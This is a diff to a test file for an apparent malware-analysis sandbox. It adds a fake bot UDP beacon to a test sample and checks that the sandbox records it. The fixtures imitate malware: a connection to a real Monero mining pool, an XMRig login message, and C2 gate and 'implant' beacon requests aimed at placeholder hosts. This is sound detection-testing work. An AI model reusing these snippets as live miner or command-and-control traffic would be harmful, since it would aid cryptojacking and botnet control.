@@ -101,6 +101,7 @@ import socket, urllib.request
 try: socket.create_connection(('gulf.moneroocean.stream', 443), timeout=3)
 except OSError as e: print('connect:', e)
 s = socket.create_connection(('203.0.113.7', 5000), timeout=3)
+socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'HELLO bot-7', ('203.0.113.9', 7000))
 s.sendall(b'{\\"id\\":1,\\"jsonrpc\\":\\"2.0\\",\\"method\\":\\"login\\",\\"params\\":{\\"login\\":\\"4AbC\\",\\"pass\\":\\"x\\",\\"agent\\":\\"XMRig/6.21.0\\"}}\\n')
 s.close()
 print('gate:', urllib.request.urlopen('http://c2.example.test/gate.php?id=1', timeout=5).status)
@@ -133,6 +134,8 @@ print('gate:', urllib.request.urlopen('http://c2.example.test/gate.php?id=1', ti
     const tls = (name: string) => r.sessions?.find((c) => c.sni === name);
     const secure = tls('secure.example.test');
     assert.deepEqual(secure && [secure.protocol, secure.domain, secure.port, secure.http?.method, secure.http?.path, secure.http?.userAgent, secure.decrypted !== undefined], ['tls', 'secure.example.test', 443, 'POST', '/api/beacon', 'implant/2.1', true], JSON.stringify(r.sessions));
+    // a datagram to a hard-coded address: caught as a UDP flow with its first bytes
+    assert.deepEqual(r.sessions?.filter((c) => c.transport === 'udp').map((c) => [c.address, c.port, c.protocol, c.preview]), [['203.0.113.9', 7000, 'other', 'HELLO bot-7']], JSON.stringify(r.sessions));
     const checked = tls('checked.example.test');
     assert.deepEqual(checked && [checked.protocol, checked.http, checked.decrypted], ['tls', undefined, undefined], JSON.stringify(r.sessions));
     assert.match(r.findings.find((f) => f.rule === 'ST-EXF-002')?.output ?? '', /host=secure\.example\.test uri=\/api\/beacon user_agent=implant\/2\.1 protocol=tls .*process=curl\)$/);
@@ -146,7 +149,7 @@ print('gate:', urllib.request.urlopen('http://c2.example.test/gate.php?id=1', ti
     assert.equal(replayed.code, 0, replayed.stderr);
     const again = JSON.parse(readFileSync(join(t.path, 'replayed', 'report.json'), 'utf8')) as Report;
     assert.deepEqual([again.dns, again.sessions, again.network, again.findings.map((f) => [f.rule, f.output])], [r.dns, r.sessions, r.network, r.findings.map((f) => [f.rule, f.output])]);
-    assert.match(html, /Connections caught in the sandbox \(5\)[\s\S]*GET \/gate\.php\?id=1/);
+    assert.match(html, /Connections caught in the sandbox \(6\)[\s\S]*GET \/gate\.php\?id=1/);
     assert.match(html, /POST \/api\/beacon · Host: secure\.example\.test · User-Agent: implant\/2\.1<\/span><div class="muted small">server name secure\.example\.test · decrypted \(the sample accepted the sandbox's certificate\)<\/div><\/td><td>\d+ <span class="muted small">\(\d+ in the clear\)/);
     assert.match(html, /server name checked\.example\.test<\/span><div class="muted small">refused the sandbox's certificate: nothing decrypted/);
   } finally {
@@ -182,6 +185,7 @@ python3 -c "
 import socket
 try: socket.create_connection(('gulf.moneroocean.stream', 443), timeout=3)
 except OSError as e: print('connect:', e)
+socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'HELLO bot-7', ('203.0.113.9', 7000))
 "
 `, { mode: 0o755 });
     const out = join(t.path, 'out');
@@ -196,8 +200,9 @@ except OSError as e: print('connect:', e)
     assert.match(pool?.answer ?? '', /^198\.1[89]\.\d+\.\d+$/, JSON.stringify(report.dns));
     const connect = report.network.find((n) => n.op === 'connect' && n.port === 443);
     assert.deepEqual(connect && [connect.address, connect.domain, connect.result], [pool?.answer, 'gulf.moneroocean.stream', 'EINPROGRESS']);
-    // caught there too; the namespace's conntrack table is not readable without root, so the port is the connect's
-    assert.deepEqual(report.sessions?.map((c) => [c.domain, c.port, c.protocol]), [['gulf.moneroocean.stream', 443, 'none']], JSON.stringify(report.sessions));
+    // caught there too; the namespace's conntrack table is not readable without root, so the port is the connect's (the datagram's: its sendto's)
+    assert.deepEqual(report.sessions?.map((c) => [c.domain ?? c.address, c.port, c.transport ?? 'tcp', c.protocol]).sort(),
+      [['203.0.113.9', 7000, 'udp', 'other'], ['gulf.moneroocean.stream', 443, 'tcp', 'none']], JSON.stringify(report.sessions));
     assert.match(report.findings.find((f) => f.rule === 'ST-C2-010')?.output ?? '', /domain=gulf\.moneroocean\.stream /, JSON.stringify(report.findings.map((f) => f.rule)));
   } finally {
     t.cleanup();
